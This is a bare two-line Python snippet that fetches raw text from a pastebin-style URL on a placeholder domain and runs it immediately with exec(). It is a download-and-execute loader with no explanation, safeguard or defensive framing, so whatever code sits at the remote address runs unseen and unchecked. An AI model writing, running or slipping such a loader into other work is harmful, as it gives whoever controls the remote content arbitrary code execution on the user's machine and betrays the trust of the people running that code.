import requests
exec(requests.get("https://pastebin.example/raw/abc").text)
